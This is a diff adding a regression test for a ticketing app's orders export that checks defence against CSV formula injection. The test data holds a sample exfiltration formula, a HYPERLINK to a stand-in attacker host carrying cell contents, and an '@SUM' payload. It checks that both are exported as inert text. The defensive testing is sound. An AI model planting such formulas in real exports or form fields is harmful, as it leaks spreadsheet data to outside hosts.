@@ -1,0 +1,51 @@
+import Papa from "papaparse";
+import { eq } from "drizzle-orm";
+import { describe, expect, it } from "vitest";
+import { order } from "~/db/schema";
+import { createTicketCodes } from "~/server/ticket-codes.server";
+import { createEvent } from "../../tests/factories/events";
+import { buyTickets, createBuyer } from "../../tests/factories/orders";
+import { signInThroughApi } from "../../tests/setup/test-app";
+import { studioTestApp } from "../../tests/setup/studio-app";
+
+/**
+ * What someone tries against Partner Studio's business features over HTTP: a buyer who writes a
+ * formula into what the host exports, a throwaway account that uses the campaign editor to send
+ * its own words to someone else's inbox, and the like. Each test is a hole that was open once.
+ */
+const studio = studioTestApp("abuse");
+
+const send = studio.send;
+const codes = createTicketCodes("the abuse tests' ticket secret, long enough");
+const DAY = 86_400_000;
+
+describe("a buyer's words in the host's orders file", () => {
+  it("keeps a formula as text even when a line break follows it in the same answer", async () => {
+    const db = studio.database.db;
+    const host = await signInThroughApi(studio.testApp, studio.database, { userType: "host", hostTitle: "The Vaults" });
+    const now = new Date();
+    const gig = await createEvent(db, { hostId: host.person.id, startsAt: new Date(now.getTime() + 7 * DAY) });
+    const buyer = await createBuyer(db, "Mal Ory");
+    const sold = await buyTickets(db, { eventId: gig.id, buyer, now, sign: codes.sign });
+    // The checkout keeps an answer's line breaks (it trims the ends and cuts it to 500 characters).
+    const formula = '=HYPERLINK("https://evil.test/?d="&A2,"Open")\nthanks';
+    await db
+      .update(order)
+      .set({
+        buyerName: "@SUM(1+1)\nMal",
+        answers: { q1: formula },
+        questions: [{ id: "q1", label: "Anything we should know?", required: false, kind: "text" }],
+      })
+      .where(eq(order.id, sold.orderId));
+
+    const file = await send("/h/reports/orders/export", host.cookie);
+    expect(file.status).toBe(200);
+    const rows = Papa.parse<string[]>((await file.text()).slice(1), { skipEmptyLines: true }).data;
+    const header = rows[0]!;
+    const line = rows.find((r) => r.includes(sold.reference))!;
+    expect(line[header.indexOf("Anything we should know?")]).toBe(`'${formula}`);
+    expect(line[header.indexOf("Buyer")]).toBe("'@SUM(1+1)\nMal");
+    // No cell of the file starts with what a spreadsheet runs.
+    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+});
